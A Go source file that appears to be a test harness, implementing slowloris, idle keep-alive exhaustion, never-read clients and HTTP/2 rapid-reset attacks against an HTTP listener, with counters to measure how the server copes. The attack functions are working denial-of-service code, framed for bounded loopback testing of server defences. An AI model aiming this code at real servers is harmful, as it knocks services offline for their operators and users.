// Package httpattack runs the connection-level attacks on an HTTP listener
// that its tests and measurements need, from a chosen loopback source
// address, bounded in count: slowloris (bodies trickled a byte at a time),
// idle keep-alive connections, clients that never read their answer,
// HTTP/2 streams reset as soon as they are opened (rapid reset), and a
// neighbour's loop of legitimate calls to measure what is left for it.
package httpattack

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Dial connects to addr from the source IP src ("" for any), with a
// receive buffer of rcvbuf bytes when rcvbuf > 0 (so a client that never
// reads stops the server's writes early, as a slow link would).
func Dial(ctx context.Context, src, addr string, rcvbuf int) (net.Conn, error) {
	d := net.Dialer{Timeout: 30 * time.Second}
	if src != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(src)}
	}
	if rcvbuf > 0 {
		d.Control = func(_, _ string, c syscall.RawConn) error {
			var serr error
			err := c.Control(func(fd uintptr) { serr = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, rcvbuf) })
			return errors.Join(err, serr)
		}
	}
	return d.DialContext(ctx, "tcp", addr)
}

// Client returns an HTTP client whose connections come from src.
func Client(src string, timeout time.Duration) *http.Client {
	t := http.DefaultTransport.(*http.Transport).Clone()
	t.DialContext = func(ctx context.Context, _, addr string) (net.Conn, error) { return Dial(ctx, src, addr, 0) }
	t.MaxIdleConnsPerHost = 4
	return &http.Client{Transport: t, Timeout: timeout}
}

// Request is a raw HTTP/1.1 request: method path, headers (each
// "Name: value"), and body; with a body its Content-Length is set.
func Request(method, path, host string, headers []string, body []byte) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", method, path, host)
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if body != nil {
		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	}
	b.WriteString("\r\n")
	return append([]byte(b.String()), body...)
}

// Pool is a set of attacking connections.
type Pool struct {
	// Opened counts the connections made; Closed those the server closed
	// (seen as the end of reading, or a failed write).
	Opened, Closed atomic.Int64
	// Failed counts dials that failed.
	Failed atomic.Int64
	mu     sync.Mutex
	conns  []net.Conn
	stop   chan struct{}
	wg     sync.WaitGroup
}

func newPool() *Pool { return &Pool{stop: make(chan struct{})} }

// Open is how many of the pool's connections the server has not closed.
func (p *Pool) Open() int64 { return p.Opened.Load() - p.Closed.Load() }

// Close closes every connection and waits for the pool's goroutines.
func (p *Pool) Close() {
	close(p.stop)
	p.mu.Lock()
	for _, c := range p.conns {
		_ = c.Close()
	}
	p.mu.Unlock()
	p.wg.Wait()
}

func (p *Pool) add(c net.Conn) {
	p.mu.Lock()
	p.conns = append(p.conns, c)
	p.mu.Unlock()
	p.Opened.Add(1)
}

// watch reads c until it ends, then counts it closed.
func (p *Pool) watch(c net.Conn, r io.Reader) {
	p.wg.Add(1)
	go func() {
		defer p.wg.Done()
		_, _ = io.Copy(io.Discard, r)
		p.Closed.Add(1)
	}()
}

// Slowloris opens n connections from src to addr, each sending head (a
// request's headers announcing a body, such as Request's with a body cut
// off) and then one byte of body every interval, until the server closes
// it or the pool is closed.
func Slowloris(ctx context.Context, src, addr string, n int, head []byte, every time.Duration) *Pool {
	p := newPool()
	for range n {
		c, err := Dial(ctx, src, addr, 0)
		if err != nil {
			p.Failed.Add(1)
			continue
		}
		p.add(c)
		p.watch(c, c)
		p.wg.Add(1)
		go func() {
			defer p.wg.Done()
			if _, err := c.Write(head); err != nil {
				return
			}
			t := time.NewTicker(every)
			defer t.Stop()
			for {
				select {
				case <-p.stop:
					return
				case <-t.C:
					if _, err := c.Write([]byte{'x'}); err != nil {
						return
					}
				}
			}
		}()
	}
	return p
}

// IdleKeepAlives opens n connections from src to addr, each sending req and
// reading its whole response, then left open and idle until the server
// closes it or the pool is closed. It returns how many were answered.
func IdleKeepAlives(ctx context.Context, src, addr string, n int, req []byte) (*Pool, int) {
	p := newPool()
	answered := 0
	for range n {
		c, err := Dial(ctx, src, addr, 0)
		if err != nil {
			p.Failed.Add(1)
			continue
		}
		p.add(c)
		br := bufio.NewReader(c)
		// A connection the server does not serve gives up: the lock-out.
		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
		if _, err := c.Write(req); err == nil {
			if resp, err := http.ReadResponse(br, nil); err == nil {
				if _, err := io.Copy(io.Discard, resp.Body); err == nil {
					answered++
				}
				resp.Body.Close()
			}
		}
		_ = c.SetDeadline(time.Time{})
		p.watch(c, br)
	}
	return p, answered
}

// NeverRead opens n connections from src to addr with a small receive
// buffer, each sending req and reading nothing.
func NeverRead(ctx context.Context, src, addr string, n int, req []byte) *Pool {
	p := newPool()
	for range n {
		c, err := Dial(ctx, src, addr, 4096)
		if err != nil {
			p.Failed.Add(1)
			continue
		}
		p.add(c)
		if _, err := c.Write(req); err != nil {
			p.Failed.Add(1)
		}
	}
	return p
}

// Drain reads what each of the pool's connections holds, for at most wait
// each, and returns the bytes each got and whether the server had closed
// it (it read to the end rather than waiting out wait).
func (p *Pool) Drain(wait time.Duration) (got []int64, closed []bool) {
	p.mu.Lock()
	conns := append([]net.Conn(nil), p.conns...)
	p.mu.Unlock()
	for _, c := range conns {
		var n int64
		end := false
		buf := make([]byte, 64<<10)
		deadline := time.Now().Add(wait)
		for {
			_ = c.SetReadDeadline(deadline)
			m, err := c.Read(buf)
			n += int64(m)
			if err != nil {
				var ne net.Error
				end = !(errors.As(err, &ne) && ne.Timeout())
				break
			}
		}
		got, closed = append(got, n), append(closed, end)
	}
	return got, closed
}

// Neighbour runs do in a loop for d, and returns how many calls succeeded
// and failed, and the longest a successful call took.
func Neighbour(ctx context.Context, d time.Duration, do func(ctx context.Context, i int) error) (ok, failed int, slowest time.Duration) {
	ctx, cancel := context.WithTimeout(ctx, d)
	defer cancel()
	for i := 0; ctx.Err() == nil; i++ {
		start := time.Now()
		if err := do(ctx, i); err != nil {
			if ctx.Err() == nil {
				failed++
				time.Sleep(10 * time.Millisecond) // no spinning on a refusal
			}
			continue
		}
		ok++
		slowest = max(slowest, time.Since(start))
	}
	return ok, failed, slowest
}

// WaitAnswering waits, for at most timeout, until the server has started
// answering on every one of the pool's connections (bytes wait unread in
// its receive buffer), reading nothing.
func (p *Pool) WaitAnswering(timeout time.Duration) error {
	p.mu.Lock()
	conns := append([]net.Conn(nil), p.conns...)
	p.mu.Unlock()
	deadline := time.Now().Add(timeout)
	for i, c := range conns {
		sc, ok := c.(syscall.Conn)
		if !ok {
			return errors.New("not a syscall.Conn")
		}
		raw, err := sc.SyscallConn()
		if err != nil {
			return err
		}
		for {
			n := 0
			_ = raw.Control(func(fd uintptr) { n, _ = ioctlInt(fd, syscall.TIOCINQ) })
			if n > 0 {
				break
			}
			if time.Now().After(deadline) {
				return fmt.Errorf("connection %d: no answer within %s", i, timeout)
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
	return nil
}

// ioctlInt is ioctl(fd, req, &n): FIONREAD (TIOCINQ) on a socket.
func ioctlInt(fd uintptr, req uintptr) (int, error) {
	var n int32
	_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, fd, req, uintptr(unsafe.Pointer(&n)))
	if errno != 0 {
		return 0, errno
	}
	return int(n), nil
}

// RapidReset opens an HTTP/2 connection (cleartext, prior knowledge) from
// src to addr and opens streams of method on path with headers, each
// reset (RST_STREAM, CANCEL) as soon as its HEADERS are sent, in batches of
// 100 with a millisecond between them so the server reads what it is sent,
// until the server closes the connection or up to streams are sent. It
// returns how many were sent, and whether the server closed the connection
// then or within a minute after.
func RapidReset(ctx context.Context, src, addr, method, path string, headers [][2]string, streams int) (sent int, closed bool, err error) {
	c, err := Dial(ctx, src, addr, 0)
	if err != nil {
		return 0, false, err
	}
	defer c.Close()
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return 0, false, err
	}
	fr := http2.NewFramer(c, c)
	if err := fr.WriteSettings(); err != nil {
		return 0, false, err
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range append([][2]string{{":method", method}, {":scheme", "http"}, {":path", path}, {":authority", addr}}, headers...) {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		for {
			if _, err := fr.ReadFrame(); err != nil {
				return
			}
		}
	}()
	for id := uint32(1); sent < streams; id += 2 {
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			break // the server closed the connection
		}
		if sent++; sent%100 != 0 {
			continue
		}
		time.Sleep(time.Millisecond)
		select {
		case <-gone:
			return sent, true, nil
		default:
		}
	}
	select {
	case <-gone:
		return sent, true, nil
	case <-time.After(time.Minute):
		return sent, false, nil
	}
}
